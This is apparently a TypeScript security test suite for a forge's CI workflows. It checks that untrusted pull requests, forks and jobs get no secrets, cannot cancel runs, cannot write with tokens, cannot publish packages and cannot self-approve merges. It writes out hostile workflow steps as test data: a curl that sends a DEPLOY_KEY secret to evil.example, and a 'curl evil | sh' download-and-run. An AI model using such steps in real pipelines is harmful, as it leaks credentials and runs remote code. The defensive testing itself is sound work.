/** Workflows: untrusted code gets no secrets and no permissions, and a job no more permissions than its author. */
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './kit/attack.ts'
import { base64, basic } from './kit/calls.ts'
import { happens, until } from './kit/faults.ts'
import type { Forge } from './kit/forge.ts'
import { clone, commitFile, mustGit } from './kit/git.ts'
import { addWorkflow, mustTake, runnerOf, takeTask, tokenHeader, workflowText } from './kit/runner.ts'

export const whoseCodeRuns: readonly Attack[] = [
  {
    name: 'a-workflow-pushed-to-refs-for',
    holds: 'a reader gets no secret and no writing token by a workflow pushed to refs/for/',
    seconds: 180,
    on: 'disk',
    isInCi: true,
    run: pushWorkflowForReview,
  },
  {
    name: 'a-workflow-pushed-while-closed',
    holds:
      'a commit that a stranger pushed while a pull request was closed does not run before it is approved',
    seconds: 180,
    on: 's3',
    isInCi: true,
    run: pushWorkflowWhileClosed,
  },
  {
    name: 'a-fork-that-cancels-runs',
    holds: 'a pull request from a fork that was not approved cancels no run of the repository',
    seconds: 150,
    on: 'disk',
    isInCi: true,
    run: cancelByFork,
  },
  {
    name: 'a-token-of-a-fork',
    holds: 'the token of an approved run from a fork writes nothing in the name of the forge',
    seconds: 200,
    on: 'disk',
    isInCi: true,
    run: writeByTokenOfFork,
  },
  {
    name: 'a-job-that-publishes-packages',
    holds:
      'a writer of one repository of an organization neither publishes nor deletes its packages by a job',
    seconds: 150,
    on: 'disk',
    isInCi: true,
    run: publishByJob,
  },
  {
    name: 'an-approval-by-a-job',
    holds: 'a pull request that needs one approval is not merged upon that of a job of its author',
    seconds: 150,
    on: 'disk',
    isInCi: true,
    run: approveByJob,
  },
]

const EVIL_STEP =
  'curl -d "$S" http://evil.example\n        env:\n          S: ${' + '{ secrets.DEPLOY_KEY }}'

async function pushWorkflowForReview(forge: Forge): Promise<string | undefined> {
  const ann = await forge.user('ann')
  const eve = await forge.user('eve')
  const repository = await forge.repository(ann, 'ci')
  const at = `/api/v1/repos/${repository}`
  await addWorkflow(forge, ann, repository, workflowText('pull_request'), { file: 'ci.yml' })
  await forge.must(ann, 'PUT', `${at}/actions/secrets/DEPLOY_KEY`, { data: 'TOP-SECRET-VALUE' })
  const runner = await runnerOf(forge, ann, repository)
  // Eve only has read access to a public repository.
  const folder = await clone(forge, eve, repository)
  const evil = workflowText('pull_request', 'ubuntu-latest', EVIL_STEP)
  await commitFile(folder, '.gitea/workflows/ci.yml', evil)
  await mustGit(folder, 'push', '-q', 'origin', 'HEAD:refs/for/main/typo')
  const hasRun = async () => {
    const { json } = await forge.must(ann, 'GET', `${at}/actions/runs`)
    const { workflow_runs: runs } = json as { workflow_runs: { event: string }[] }
    return runs.some(({ event }) => event === 'pull_request')
  }
  // A forge may also create no run at all.
  await happens(hasRun, 20_000, 500)
  const task = await takeTask(runner, 10)
  if (task === undefined) return undefined
  const secret = task.secrets.DEPLOY_KEY
  const body = { content: base64('owned'), message: 'by a stranger' }
  const wrote = await forge.call(undefined, 'POST', `${at}/contents/owned.txt`, body, {
    headers: tokenHeader(task),
  })
  await runner.finish(task.id)
  if (secret === undefined && wrote.status >= 300) return undefined
  const isEvil = Buffer.from(task.workflowPayload, 'base64').toString().includes('evil.example')
  const whose = isEvil ? 'as the stranger wrote it' : 'as it is on main'
  return `the job ${whose} got DEPLOY_KEY=${secret} without approval, and its token wrote to main: ${wrote.status}`
}

async function pushWorkflowWhileClosed(forge: Forge): Promise<string | undefined> {
  const ann = await forge.user('ann')
  const eve = await forge.user('eve')
  const repository = await forge.repository(ann, 'runs')
  const workflow = (command: string) => workflowText('pull_request', 'linux', command)
  await addWorkflow(forge, ann, repository, workflow('make'), { file: 'check.yml' })
  const folder = await clone(forge, eve, await forge.fork(eve, repository))
  await mustGit(folder, 'checkout', '-q', '-B', 'topic', 'origin/main')
  const good = await commitFile(folder, 'good.txt', 'good')
  await mustGit(folder, 'push', '-q', 'origin', 'topic')
  const pull = { title: 'x', head: `${eve.name}:topic`, base: 'main' }
  const { json } = await forge.must(eve, 'POST', `/api/v1/repos/${repository}/pulls`, pull)
  const at = `/api/v1/repos/${repository}/pulls/${(json as { number: number }).number}`
  const [, name] = repository.split('/')
  const runs = () =>
    forge.sql(`select coalesce(string_agg(left(head_sha, 8) || ' ' || event || ' needs ' || needs_approval || ' ' || status, '; '
      order by action_run.id), '') from action_run
      join repository on repository.id = repository_id join account on account.id = owner_id
      where repository.name = '${name}' and login = '${ann.name}'`)
  const hasRun = (words: string) => async () => (await runs()).includes(words)
  const waiting = `${good.slice(0, 8)} pull_request needs true`
  await until('her first run waits for approval', hasRun(waiting), 60_000)
  await forge.must(ann, 'PATCH', at, { state: 'closed' })
  const evil = await commitFile(folder, '.gitea/workflows/check.yml', workflow('curl evil | sh'))
  await mustGit(folder, 'push', '-q', 'origin', 'topic')
  await forge.must(ann, 'PATCH', at, { state: 'open' })
  const head = async () => (await forge.must(ann, 'GET', at)).json as { head: { sha: string } }
  await until('the pull request has its new head', async () => (await head()).head.sha === evil, 60_000)
  await until('it runs or waits', hasRun(evil.slice(0, 8)), 60_000)
  const seen = await runs()
  return seen.includes(`${evil.slice(0, 8)} pull_request needs false`)
    ? `runs: ${seen}; ${evil.slice(0, 8)} was pushed by eve, whose first run still waits for approval`
    : undefined
}

const deployment = (on: string) =>
  workflowText(on).replace(
    'jobs:',
    `concurrency:\n  group: deploy\n  cancel-in-progress: ${on !== 'push'}\njobs:`,
  )

async function cancelByFork(forge: Forge): Promise<string | undefined> {
  const ann = await forge.user('ann')
  const eve = await forge.user('eve')
  const repository = await forge.repository(ann, 'prod')
  const at = `/api/v1/repos/${repository}`
  const runner = await runnerOf(forge, ann, repository)
  await addWorkflow(forge, ann, repository, deployment('push'), { file: 'deploy.yml' })
  const task = await mustTake(runner, 40)
  const statuses = async () => {
    const { json } = await forge.must(ann, 'GET', `${at}/actions/runs`)
    const { workflow_runs: runs } = json as {
      workflow_runs: { event: string; status: string; conclusion: string | null }[]
    }
    return new Map(runs.map((it) => [it.event, `${it.status}/${it.conclusion ?? ''}`]))
  }
  const before = await statuses()
  const folder = await clone(forge, eve, await forge.fork(eve, repository))
  await commitFile(folder, '.gitea/workflows/deploy.yml', deployment('pull_request'))
  await mustGit(folder, 'push', '-q', 'origin', 'HEAD:refs/heads/typo')
  const pull = { head: `${eve.name}:typo`, base: 'main', title: 'typo' }
  await forge.must(eve, 'POST', `${at}/pulls`, pull)
  for (let i = 0; i < 20; i++) {
    await sleep(1_000)
    const now = await statuses()
    const { state } = await runner.report(task.id)
    const result = state?.result ?? 'RESULT_UNSPECIFIED'
    if (now.get('push') !== before.get('push') || result !== 'RESULT_UNSPECIFIED')
      return `the deployment was ${before.get('push')}; after the unapproved pull request it is ${now.get('push')}, and its runner is sent ${result}`
  }
  await runner.finish(task.id)
  return undefined
}

async function writeByTokenOfFork(forge: Forge): Promise<string | undefined> {
  const ann = await forge.user('ann')
  const eve = await forge.user('eve')
  const repository = await forge.repository(ann, 'open')
  const at = `/api/v1/repos/${repository}`
  await addWorkflow(forge, ann, repository, workflowText('pull_request'))
  await forge.must(ann, 'POST', `${at}/issues`, { title: 'one' })
  const runner = await runnerOf(forge, ann, repository)
  const folder = await clone(forge, eve, await forge.fork(eve, repository))
  await commitFile(folder, 'x/y', 'z')
  await mustGit(folder, 'push', '-q', 'origin', 'HEAD:refs/heads/topic')
  const pull = { head: `${eve.name}:topic`, base: 'main', title: 'x' }
  const { json } = await forge.must(eve, 'POST', `${at}/pulls`, pull)
  const { number } = json as { number: number }
  const findRun = async () => {
    const { json } = await forge.must(ann, 'GET', `${at}/actions/runs`)
    const { workflow_runs: runs } = json as { workflow_runs: { id: number; event: string }[] }
    return runs.find(({ event }) => event === 'pull_request')
  }
  await until('there is a run', async () => (await findRun()) !== undefined, 30_000, 500)
  await forge.must(ann, 'POST', `${at}/actions/runs/${(await findRun())?.id}/approve`)
  const task = await mustTake(runner, 40)
  const headers = tokenHeader(task)
  const done: string[] = []
  for (const [what, path, body] of [
    ['opens an issue', 'issues', { title: 'Security notice', body: 'x' }],
    ['comments', `issues/${number}/comments`, { body: 'All checks passed.' }],
    ['approves', `pulls/${number}/reviews`, { event: 'APPROVED', body: 'fine' }],
    ['reviews', `pulls/${number}/reviews`, { event: 'COMMENT', body: 'fine' }],
    ['opens a pull request', 'pulls', { head: `${eve.name}:topic`, base: 'main', title: 'y' }],
    ['writes a file', 'contents/a.txt', { content: base64('x'), message: 'm' }],
    ['sets a status', `statuses/${await forge.tip(ann, repository)}`, { state: 'success', context: 'ci' }],
    ['makes a label', 'labels', { name: 'x', color: '#ff0000' }],
    ['forks', 'forks', {}],
  ] as const) {
    const { status, json } = await forge.call(undefined, 'POST', `${at}/${path}`, body, { headers })
    const login = (json as { user?: { login: string } } | undefined)?.user?.login
    if (status < 300) done.push(`${what} (${status}, as ${login})`)
  }
  await runner.finish(task.id)
  return done.length > 0 ? done.join(', ') : undefined
}

async function publishByJob(forge: Forge): Promise<string | undefined> {
  const ann = await forge.user('ann')
  const wes = await forge.user('wes')
  const org = forge.name('org')
  const repository = `${org}/site`
  await forge.must(ann, 'POST', '/api/v1/orgs', { username: org, visibility: 'private' })
  const facts = { name: 'site', auto_init: true, private: true, default_branch: 'main' }
  await forge.must(ann, 'POST', `/api/v1/orgs/${org}/repos`, facts)
  const write = { permission: 'write' }
  await forge.must(ann, 'PUT', `/api/v1/repos/${repository}/collaborators/${wes.name}`, write)
  const send = async (authorization: string, method: string, version: string, body?: Buffer) => {
    const path = `/api/packages/${org}/generic/tool/${version}/tool.bin`
    const headers = { authorization, ...(body && { 'content-type': 'application/octet-stream' }) }
    return (await forge.call(undefined, method, path, body, { headers })).status
  }
  const published = await send(basic(ann), 'PUT', '1.0', Buffer.from('genuine'))
  if (published !== 201) throw new Error(`ann cannot publish: ${published}`)
  const evil = Buffer.from('evil')
  const himself = [await send(basic(wes), 'GET', '1.0'), await send(basic(wes), 'PUT', '1.1', evil)]
  if (himself.some((it) => it < 400)) throw new Error('wes may do so himself')
  const runner = await runnerOf(forge, ann, repository)
  await addWorkflow(forge, wes, repository, workflowText('push'))
  const task = await mustTake(runner, 40)
  const token = tokenHeader(task).authorization
  const read = await send(token, 'GET', '1.0')
  const put = await send(token, 'PUT', '1.1', evil)
  const gone = await send(token, 'DELETE', '1.0')
  await runner.finish(task.id)
  return [read, put, gone].some((it) => it < 300)
    ? `wes himself: read ${himself[0]}, publish ${himself[1]}; his job: read ${read}, publish ${put}, delete ${gone}`
    : undefined
}

async function approveByJob(forge: Forge): Promise<string | undefined> {
  const ann = await forge.user('ann')
  const wes = await forge.user('wes')
  const repository = await forge.repository(ann, 'guarded')
  const at = `/api/v1/repos/${repository}`
  await forge.must(ann, 'PUT', `${at}/collaborators/${wes.name}`, { permission: 'write' })
  const rule = {
    rule_name: 'main',
    enable_push: false,
    required_approvals: 1,
    block_on_rejected_reviews: true,
  }
  await forge.must(ann, 'POST', `${at}/branch_protections`, rule)
  const runner = await runnerOf(forge, ann, repository)
  const file = { content: base64(workflowText('push')), message: 'm', branch: 'main', new_branch: 'evil' }
  await forge.must(wes, 'POST', `${at}/contents/.gitea/workflows/w.yml`, file)
  const pull = { head: 'evil', base: 'main', title: 'harmless' }
  const { json } = await forge.must(wes, 'POST', `${at}/pulls`, pull)
  const { number } = json as { number: number }
  const merge = async (headers?: Record<string, string>) => {
    const who = headers === undefined ? wes : undefined
    const path = `${at}/pulls/${number}/merge`
    return (await forge.call(who, 'POST', path, { Do: 'merge' }, headers && { headers })).status
  }
  const alone = await merge()
  if (alone < 300) throw new Error('nothing guards the branch')
  const reviews = `${at}/pulls/${number}/reviews`
  const approval = { event: 'APPROVED', body: 'fine' }
  const own = await forge.call(wes, 'POST', reviews, approval)
  const task = await mustTake(runner, 40)
  const headers = tokenHeader(task)
  const review = await forge.call(undefined, 'POST', reviews, approval, { headers })
  await sleep(3_000)
  const merged = await merge()
  const byJob = merged < 300 ? merged : await merge(headers)
  await runner.finish(task.id)
  return merged < 300 || byJob < 300
    ? `alone: ${alone}, own approval: ${own.status}, approval by the job: ${review.status}, then merged: ${merged} (by the job ${byJob})`
    : undefined
}
